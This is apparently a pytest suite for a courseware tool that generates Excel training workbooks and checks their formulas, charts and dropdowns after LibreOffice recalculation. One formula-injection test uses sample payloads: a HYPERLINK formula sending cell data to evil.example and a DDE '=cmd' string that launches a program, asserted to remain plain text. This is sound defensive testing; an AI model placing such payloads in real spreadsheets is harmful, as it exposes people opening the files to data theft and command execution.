"""Every bundled workbook recalculated by a real spreadsheet engine (LibreOffice headless).

Each sample row's formula results must equal the expected values in its YAML, no cell may hold an
error value, and a workbook with the learner's own rows typed in must still compute.
"""

from __future__ import annotations

import dataclasses
import datetime
import io
import math
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from generator.load.course import load_course
from generator.model.text import Text, Value
from generator.model.worksheet import Worksheet
from generator.scaffold import SCAFFOLD
from generator.workbook import build_workbook
from generator.workbook.layout import lay_out
from tests.spreadsheet import recalculate, recalculate_many
from tests.worksheet_factory import column as make_column
from tests.worksheet_factory import margin_worksheet

REPO = Path(__file__).resolve().parents[1]
ERRORS = ("#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#N/A", "#NUM!", "#NULL!", "Err:")


def _bundled() -> list[Worksheet]:
    """The bundled course's workbooks and the one `courseware new` gives a second course to copy."""
    worksheets = []
    for root in (REPO, SCAFFOLD):
        loaded = load_course(root)
        assert loaded.course is not None
        worksheets += loaded.course.worksheets
    return worksheets


WORKSHEETS = {worksheet.id: worksheet for worksheet in _bundled()}


@pytest.fixture(scope="module")
def recalculated(tmp_path_factory: pytest.TempPathFactory) -> dict[str, openpyxl.Workbook]:
    """Each workbook as generated (`<id>`) and with learner rows typed in (`<id>+rows`), recalculated once."""
    folder = tmp_path_factory.mktemp("workbooks")
    sources = []
    for worksheet in WORKSHEETS.values():
        plain = folder / f"{worksheet.id}.xlsx"
        plain.write_bytes(build_workbook(worksheet))
        sources += [plain, _with_learner_rows(plain, worksheet, folder / f"{worksheet.id}+rows.xlsx")]
    results = recalculate_many(sources, tmp_path_factory.mktemp("recalculated"))
    return {path.stem: openpyxl.load_workbook(path, data_only=True) for path in results}


def _with_learner_rows(source: Path, worksheet: Worksheet, target: Path) -> Path:
    """The sample rows' inputs typed again into the blank rows below them, as a learner would."""
    book = openpyxl.load_workbook(source)
    for data in worksheet.sheets:
        layout, sheet = lay_out(data), book[data.title]
        for offset in range(min(len(data.samples), data.blank_rows)):
            source_row, target_row = layout.first + offset, layout.first + len(data.samples) + offset
            for column in layout.inputs():
                letter = layout.letters[column.name]
                sheet[f"{letter}{target_row}"] = sheet[f"{letter}{source_row}"].value
    book.save(target)
    return target


def _matches(expected: Any, actual: Any) -> bool:
    if isinstance(expected, bool) or isinstance(actual, bool):
        return expected == actual
    if isinstance(expected, int | float):
        return isinstance(actual, int | float) and math.isclose(actual, expected, rel_tol=1e-6, abs_tol=1e-9)
    if isinstance(actual, datetime.datetime):
        return actual.date().isoformat() == expected
    return (actual if actual is not None else "") == expected


def _errors(book: openpyxl.Workbook) -> list[str]:
    return [f"{sheet.title}!{cell.coordinate}={cell.value}" for sheet in book.worksheets for row in sheet.iter_rows()
            for cell in row if isinstance(cell.value, str) and cell.value.startswith(ERRORS)]


def test_bundled_course_has_worksheets() -> None:
    assert WORKSHEETS, "no content/worksheets/*.yaml found: the checks below would pass vacuously"


@pytest.mark.parametrize("worksheet_id", sorted(WORKSHEETS))
def test_sample_rows_give_the_expected_results(worksheet_id: str, recalculated: dict[str, Any]) -> None:
    worksheet, book = WORKSHEETS[worksheet_id], recalculated[worksheet_id]
    wrong = []
    for data in worksheet.sheets:
        layout, sheet = lay_out(data), book[data.title]
        for offset, sample in enumerate(data.samples):
            for column in data.columns:
                if column.type != "formula":
                    continue
                cell = sheet[f"{layout.letters[column.name]}{layout.first + offset}"]
                if not _matches(sample[column.name].value, cell.value):
                    wrong.append(f"{data.title}!{cell.coordinate} {column.name}: "
                                 f"expected {sample[column.name].value!r}, got {cell.value!r}")
    assert wrong == []


@pytest.mark.parametrize("worksheet_id", sorted(WORKSHEETS))
def test_summaries_give_the_expected_results(worksheet_id: str, recalculated: dict[str, Any]) -> None:
    worksheet, book = WORKSHEETS[worksheet_id], recalculated[worksheet_id]
    wrong = []
    for data in worksheet.sheets:
        layout, sheet = lay_out(data), book[data.title]
        for offset, summary in enumerate(data.summary):
            actual = sheet.cell(layout.summary_row + offset, 2).value
            if summary.expected is not None and not _matches(summary.expected.value, actual):
                wrong.append(f"{data.title} {summary.label}: expected {summary.expected.value!r}, got {actual!r}")
    assert wrong == []


@pytest.mark.parametrize("worksheet_id", sorted(WORKSHEETS))
def test_no_cell_holds_an_error_and_blank_rows_stay_blank(worksheet_id: str, recalculated: dict[str, Any]) -> None:
    worksheet, book = WORKSHEETS[worksheet_id], recalculated[worksheet_id]
    assert _errors(book) == []
    for data in worksheet.sheets:
        layout, sheet = lay_out(data), book[data.title]
        for row in range(layout.first + len(data.samples), layout.last + 1):
            assert all(sheet.cell(row, col).value in (None, "") for col in range(1, len(data.columns) + 1)), row


@pytest.mark.parametrize("worksheet_id", sorted(WORKSHEETS))
def test_learner_rows_still_compute(worksheet_id: str, recalculated: dict[str, Any]) -> None:
    worksheet, book = WORKSHEETS[worksheet_id], recalculated[f"{worksheet_id}+rows"]
    assert _errors(book) == []
    for data in worksheet.sheets:
        layout, sheet = lay_out(data), book[data.title]
        for offset, sample in enumerate(data.samples[:data.blank_rows]):
            row = layout.first + len(data.samples) + offset
            for column in data.columns:
                # a formula whose sample result is "" may rightly be blank for the copied row too
                if column.type == "formula" and sample[column.name].value != "":
                    assert sheet[f"{layout.letters[column.name]}{row}"].value not in (None, ""), (data.title, row)


@pytest.mark.parametrize("worksheet_id", sorted(WORKSHEETS))
def test_spreadsheet_keeps_highlights_and_dropdowns(worksheet_id: str, recalculated: dict[str, Any]) -> None:
    """LibreOffice writes back only what it understood: the rules survive its round trip unchanged."""
    original = openpyxl.load_workbook(io.BytesIO(build_workbook(WORKSHEETS[worksheet_id])))
    result = recalculated[worksheet_id]
    for data in WORKSHEETS[worksheet_id].sheets:
        assert _highlights(result[data.title]) == _highlights(original[data.title])
        assert _dropdowns(result[data.title]) == _dropdowns(original[data.title])


def _highlights(sheet: Any) -> set[tuple[str, str]]:
    return {(str(entry.sqref), formula) for entry in sheet.conditional_formatting
            for rule in entry.rules for formula in rule.formula}


def _dropdowns(sheet: Any) -> set[tuple[str, str]]:
    return {(str(rule.sqref), rule.formula1) for rule in sheet.data_validations.dataValidation if rule.type == "list"}


def test_changing_a_parameter_changes_the_results(tmp_path: Path) -> None:
    """Parameters are live named cells: the learner edits one and every formula using it follows."""
    worksheet = margin_worksheet()
    sheet = worksheet.sheets[0]
    verdict = make_column("达标", "formula", formula='IF(毛利率 >= 底线, "是", "否")', format="text")
    sheet = dataclasses.replace(sheet, columns=(*sheet.columns, verdict))
    source = tmp_path / "margin.xlsx"
    source.write_bytes(build_workbook(dataclasses.replace(worksheet, sheets=(sheet,))))
    stricter = openpyxl.load_workbook(source)
    (title, cell), = stricter.defined_names["底线"].destinations
    stricter[title][cell.replace("$", "")] = 0.25
    stricter.save(tmp_path / "stricter.xlsx")
    before, after = recalculate_many([source, tmp_path / "stricter.xlsx"], tmp_path / "out")
    assert openpyxl.load_workbook(before, data_only=True)["毛利"]["G6"].value == "是"
    assert openpyxl.load_workbook(after, data_only=True)["毛利"]["G6"].value == "否"


def test_formula_looking_author_text_stays_text_after_recalculation(tmp_path: Path) -> None:
    """Formula injection: text from the YAML that starts with =, +, - or @ is never evaluated."""
    attack = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
    worksheet = margin_worksheet()
    sheet = worksheet.sheets[0]
    sample = dict(sheet.samples[0])
    sample[Text("客户")] = Value("=1+1")
    sheet = dataclasses.replace(sheet, title=Text("=2+2"), samples=(sample,),
                                summary=(dataclasses.replace(sheet.summary[0], label=Text("@SUM(1,1)")),))
    instructions = dataclasses.replace(worksheet.instructions, purpose=Text(attack),
                                       reading=(Text("-3+5"),), steps=(Text("+4+4"),))
    worksheet = dataclasses.replace(worksheet, title=Text("=cmd|' /C calc'!A0"), sheets=(sheet,),
                                    instructions=instructions)
    source = tmp_path / "attack.xlsx"
    source.write_bytes(build_workbook(worksheet))
    book = recalculate(source, tmp_path / "out")
    texts = {cell.value for ws in book.worksheets for row in ws.iter_rows() for cell in row}
    for value in (attack, "=1+1", "=2+2", "@SUM(1,1)", "-3+5", "=cmd|' /C calc'!A0"):
        assert value in texts, value
    assert 2 not in texts and 4 not in texts  # nothing was computed from the injected text


@pytest.mark.parametrize("worksheet_id", sorted(WORKSHEETS))
def test_cached_values_in_the_file_equal_libreoffice_results(worksheet_id: str, recalculated: dict[str, Any]) -> None:
    """Viewers that do not recalculate (phones, chat apps) show the values stored at build time: they must be
    what a spreadsheet computes, for every formula cell of every prepared row, the 数据检查 column and summaries."""
    stored = openpyxl.load_workbook(io.BytesIO(build_workbook(WORKSHEETS[worksheet_id])), data_only=True)
    formulas = openpyxl.load_workbook(io.BytesIO(build_workbook(WORKSHEETS[worksheet_id])))
    book, wrong, compared = recalculated[worksheet_id], [], 0
    for data in WORKSHEETS[worksheet_id].sheets:
        for row in formulas[data.title].iter_rows():
            for cell in row:
                if cell.data_type != "f":
                    continue
                compared += 1
                ours, theirs = stored[data.title][cell.coordinate].value, book[data.title][cell.coordinate].value
                if not (_matches(ours, theirs) if isinstance(ours, int | float) else (ours or "") == (theirs or "")):
                    wrong.append(f"{data.title}!{cell.coordinate}: stored {ours!r}, LibreOffice {theirs!r}")
    assert compared > 0
    assert wrong == []


CHARTED = {"customer-grading": {"ABC分级": 1}, "competitor-matrix": {"加权评分": 2, "价格对标": 1},
           "price-defense-prep": {"成本对比": 1}, "contract-calendar": {"续约日历": 1}}


@pytest.mark.parametrize("worksheet_id", sorted(CHARTED))
def test_native_charts_are_written_and_survive_libreoffice(worksheet_id: str, recalculated: dict[str, Any]) -> None:
    """ABC Pareto, competitor radar and bars, price-defense costs, the renewal timeline: real xlsx charts."""
    original = openpyxl.load_workbook(io.BytesIO(build_workbook(WORKSHEETS[worksheet_id])))
    for title, count in CHARTED[worksheet_id].items():
        assert len(original[title]._charts) == count
        assert len(recalculated[worksheet_id][title]._charts) == count, "LibreOffice dropped a chart"


def test_pareto_block_lists_customers_by_rank_with_the_running_share(recalculated: dict[str, Any]) -> None:
    sheet = recalculated["customer-grading"]["ABC分级"]
    layout = lay_out(WORKSHEETS["customer-grading"].sheets[0])
    first = len(layout.sheet.columns) + 3
    rows = [[sheet.cell(layout.first + k, first + i).value for i in range(3)] for k in range(9)]
    assert [row[0] for row in rows[:3]] == ["苏州恒达电器", "宁波海川汽车部件", "东莞精工电子"]
    assert [row[1] for row in rows[:3]] == [6000000, 4200000, 2600000]
    assert math.isclose(rows[7][2], 1.0) and rows[8] == [None, None, None]  # eight customers, then blank
